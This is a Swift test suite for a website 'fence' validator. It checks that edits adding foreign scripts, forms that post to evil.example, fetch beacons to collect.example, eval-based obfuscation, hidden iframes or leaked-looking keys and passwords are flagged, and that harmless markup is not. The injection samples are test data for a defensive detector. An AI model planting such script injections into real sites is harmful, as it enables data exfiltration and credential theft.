import Domain
import Testing
import Validation

@Suite("The fence against what does not belong into a site")
struct FenceTests {
    private let site = GuardSite()

    private static let intrusions: [(html: String, rule: String)] = [
        ("<script src=\"https://evil.example/x.js\"></script>", "origin-new"),
        ("<img src=\"//pixel.example/p.gif\" alt=\"\">", "origin-new"),
        ("<link rel=\"stylesheet\" href=\"https://styles.example/a.css\">", "origin-new"),
        ("<script>fetch(\"https://collect.example/?q=1\")</script>", "origin-new"),
        ("<style>@import url(https://styles.example/a.css);</style>", "origin-new"),
        ("<form action=\"https://evil.example/take\"><button>Go</button></form>", "form-foreign"),
        ("<form><button formaction=\"//evil.example/take\">Go</button></form>", "form-foreign"),
        ("<script>eval(atob('eA=='))</script>", "script-dangerous"),
        ("<script>window.eval(name)</script>", "script-dangerous"),
        ("<script>new Function('return 1')()</script>", "script-dangerous"),
        ("<script>setTimeout(\"alert(1)\", 5)</script>", "script-dangerous"),
        ("<script>document.write('<script src=\"/x.js\"><' + '/script>')</script>", "script-dangerous"),
        ("<p onclick=\"eval(this.id)\">x</p>", "script-dangerous"),
        ("<iframe src=\"about.html\" style=\"display: none\"></iframe>", "frame-hidden"),
        ("<iframe src=\"about.html\" width=\"1\" height=\"1\"></iframe>", "frame-hidden"),
        ("<div style=\"position:absolute;left:-9999px\"><iframe src=\"about.html\"></iframe></div>", "frame-hidden"),
        ("<p>ghp_0123456789abcdefghijABCDEFGHIJ012345</p>", "secret-in-file"),
        ("<!-- AKIAIOSFODNN7EXAMPLE -->", "secret-in-file"),
        ("<pre>-----BEGIN RSA PRIVATE KEY-----\nMIIE</pre>", "secret-in-file"),
        ("<p>postgres://shop:hunter22@db.example/shop</p>", "secret-in-file"),
    ]

    @Test("What an edit brings in is found; what was there before is not", arguments: intrusions)
    func intrusion(one: (html: String, rule: String)) async throws {
        let changed = site.home("<p>Welcome.</p>", "<p>Welcome.</p>\(one.html)")
        #expect(try await changed.errors("Add a greeting") == ["\(one.rule) index.html"])
        var known = changed
        known.before = known.after
        #expect(try await known.home("Welcome.", "Hello.").errors("Say hello") == [])
        // A page that is modelled on the home page has what that has.
        #expect(try await known.adding("new.html", known.before["index.html"] ?? "").errors("Add a page") == [])
    }

    @Test(
        "What a site may have is not found",
        arguments: [
            "<script>const evaluate = 1; evaluate(2); retrieval(3)</script>",
            "<script>// eval(x)\nlet a = 'eval(1)'</script>",
            "<script>document.write('<p>2026</p>')</script>", "<script>setTimeout(() => go(), 5)</script>",
            "<a href=\"https://friends.example/\">Friends</a>", "<form action=\"/other\"><button>Go</button></form>",
            "<iframe src=\"about.html\" width=\"100%\" height=\"300\"></iframe>",
            "<p class=\"sk-button sk-primary\">x</p>",
            "<p>https://user@host.example/ and mailto:a@b.example and 12:30@noon</p>",
            "<img src=\"data:image/gif;base64,R0\" alt=\"\">",
            "<script>a.eval(1)</script>",
        ])
    func harmless(html: String) async throws {
        #expect(try await site.home("<p>Welcome.</p>", "<p>Welcome.</p>\(html)").errors("Add a greeting") == [])
    }

    @Test("A source that the request names is a warning")
    func named() async throws {
        let video = site.home(
            "<p>Welcome.</p>", "<iframe src=\"https://www.youtube.com/embed/1\"></iframe><p>Welcome.</p>")
        #expect(try await video.errors("Add a film") == ["origin-new index.html"])
        #expect(try await video.errors("Add our YouTube film") == [])
        let review = try await video.review("Embed https://www.youtube.com/embed/1")
        #expect(review.findings.map(\.rule) == ["origin-new"] && review.findings.allSatisfy { $0.severity == .warning })
    }

    @Test("A source that any page of the site used before is not new")
    func known() async throws {
        let changed = site.home("<p>Welcome.</p>", "<img src=\"https://cdn.example/a.png\" alt=\"\">")
        #expect(
            try await changed.review("Add a picture", knownOrigins: ["https://cdn.example"]).findings.isEmpty)
    }

    @Test("Scripts in files of their own are looked into")
    func files() async throws {
        let changed = site.changing(
            "menu.js", "document.title = 'x'", "importScripts('https://evil.example/a.js'); eval(1)")
        #expect(
            try await changed.errors("Fix the menu") == ["origin-new menu.js", "script-dangerous menu.js"])
        #expect(
            try await site.adding("config.json", "{\"key\": \"sk_live_0123456789abcdefghijABCD\"}").errors("Add a shop")
                == ["secret-in-file config.json"])
    }
}
